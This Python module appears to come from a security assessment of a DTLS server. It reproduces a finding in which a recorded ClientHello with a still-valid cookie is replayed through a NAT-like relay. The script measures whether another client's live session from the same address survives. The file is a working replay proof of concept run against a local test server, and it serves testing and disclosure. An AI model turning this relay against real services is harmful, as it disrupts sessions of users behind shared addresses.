"""Finding 1: a replayed ClientHello (with its still-valid cookie) against a live session from the same address.

:class:`ReplayRelay` is a NAT in miniature: the clients behind it share one upstream socket, so the server sees
them all at one address; replies go to the client that sent last. It records every client datagram and can
re-send any of them upstream, as an on-path attacker (or a later user of the same NAT mapping) would.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import threading
import time
from dataclasses import dataclass
from typing import Any

from .attack_common import ServerCommand, ServerProcess, Timers, client_hello_cookie, udp_socket
from .attack_credentials import Credentials
from .attack_fleet import Fleet


@dataclass
class Relayed:
    client: tuple[str, int]
    data: bytes
    at: float


class ReplayRelay:
    """Listens on ``listen`` (clients send there), forwards to ``server`` from one upstream socket bound to
    ``upstream_ip``; server replies go to the client that sent most recently. Runs in a daemon thread."""

    def __init__(self, server: tuple[str, int], *, listen_ip: str = "127.0.0.1",
                 upstream_ip: str = "127.0.0.5") -> None:
        self.server = server
        self.listen_sock = udp_socket(listen_ip)
        self.upstream_sock = udp_socket(upstream_ip)
        self.recorded: list[Relayed] = []
        self.replies = 0
        self.current: tuple[str, int] | None = None
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True, name="ReplayRelay")
        self._thread.start()

    @property
    def address(self) -> tuple[str, int]:
        """Where clients send to."""
        addr: tuple[str, int] = self.listen_sock.getsockname()
        return addr

    @property
    def upstream(self) -> tuple[str, int]:
        """The one address the server sees for every client behind the relay."""
        addr: tuple[str, int] = self.upstream_sock.getsockname()
        return addr

    def _run(self) -> None:
        sel = selectors.DefaultSelector()
        sel.register(self.listen_sock, selectors.EVENT_READ, "c2s")
        sel.register(self.upstream_sock, selectors.EVENT_READ, "s2c")
        while not self._stop.is_set():
            for key, _ in sel.select(0.05):
                sock: socket.socket = key.fileobj  # type: ignore[assignment]
                while True:
                    try:
                        data, addr = sock.recvfrom(65536)
                    except (BlockingIOError, InterruptedError):
                        break
                    except OSError:
                        break
                    if key.data == "c2s":
                        with self._lock:
                            self.recorded.append(Relayed(addr, data, time.monotonic()))
                            self.current = addr
                        with contextlib.suppress(OSError):
                            self.upstream_sock.sendto(data, self.server)
                    elif self.current is not None:
                        self.replies += 1
                        with contextlib.suppress(OSError):
                            self.listen_sock.sendto(data, self.current)
        sel.close()

    def hellos_with_cookie(self, client: tuple[str, int]) -> list[bytes]:
        """The ClientHellos carrying a cookie that ``client`` sent through the relay, oldest first."""
        with self._lock:
            return [r.data for r in self.recorded if r.client == client and client_hello_cookie(r.data)]

    def replay(self, data: bytes) -> None:
        """Send a recorded datagram to the server again, from the shared upstream address."""
        self.upstream_sock.sendto(data, self.server)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2.0)
        self.listen_sock.close()
        self.upstream_sock.close()

    def __enter__(self) -> ReplayRelay:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


@dataclass
class ReplayTrial:
    a_established: bool
    b_established: bool
    b_echo_before: bool
    replayed: bool
    #: B's echoes answered after the replay, out of ``echoes_after``.
    b_echoes_after: int
    echoes_after: int
    b_alerts: list[tuple[int, int]]
    b_ended_by_server: bool

    @property
    def survived(self) -> bool:
        return self.b_echoes_after == self.echoes_after


def replay_trial(fleet: Fleet, creds: Credentials, server: tuple[str, int], timers: Timers, *,
                 a_leaves: str = "close", settle: float = 0.3, echoes: int = 3, echo_timeout: float = 1.0
                 ) -> ReplayTrial:
    """A handshakes through a relay and leaves (``a_leaves``: "close" sends close_notify, "silent" does not);
    B handshakes from the same upstream address and echoes; A's ClientHello with cookie is replayed; B then
    tries ``echoes`` round trips."""
    with ReplayRelay(server) as relay:
        budget = max(5.0, 4 * timers.initial)
        a = fleet.add(timers.client(creds.psk_client(b"dev1")), relay.address)
        a_ok = fleet.handshake(a, budget) and fleet.echo(a, b"A: hello", echo_timeout)
        hellos = relay.hellos_with_cookie(a.local)
        if a_leaves == "close":
            fleet.close(a)
        else:
            fleet.discard(a)
        fleet.sleep(0.05)
        b = fleet.add(timers.client(creds.psk_client(b"dev2")), relay.address)
        b_ok = fleet.handshake(b, budget)
        b_before = b_ok and fleet.echo(b, b"B: before", echo_timeout)
        if hellos:
            relay.replay(hellos[-1])
        fleet.sleep(settle)
        answered = sum(fleet.echo(b, f"B: after {i}".encode(), echo_timeout) for i in range(echoes))
        trial = ReplayTrial(a_ok, b_ok, b_before, bool(hellos), answered, echoes, list(b.alerts),
                            b.closed_by_server or (b.ended is not None and b.error is not None))
        fleet.close(b)
        return trial


def run_replay(command: ServerCommand, creds: Credentials, timers: Timers, trials: int = 3,
               a_leaves: str = "close", echo_timeout: float = 1.0) -> dict[str, Any]:
    """Finding 1 against a fresh PSK server: ``trials`` rounds; figures for the report."""
    with ServerProcess(command, [*creds.psk_args(), *timers.server_args()]) as server, Fleet() as fleet:
        results = [replay_trial(fleet, creds, server.address, timers, a_leaves=a_leaves, echo_timeout=echo_timeout)
                   for _ in range(trials)]
        log_replaced = len(server.grep(r"replac|new handshake"))
    return {
        "trials": trials,
        "a_leaves": a_leaves,
        "setup_ok": sum(r.a_established and r.b_established and r.b_echo_before for r in results),
        "replayed": sum(r.replayed for r in results),
        "b_survived": sum(r.survived for r in results),
        "b_echoes_after": sum(r.b_echoes_after for r in results),
        "echoes_after": sum(r.echoes_after for r in results),
        "b_alerts": sum(len(r.b_alerts) for r in results),
        "b_told_closed": sum(r.b_ended_by_server for r in results),
        "server_log_lines_about_replacement": log_replaced,
    }
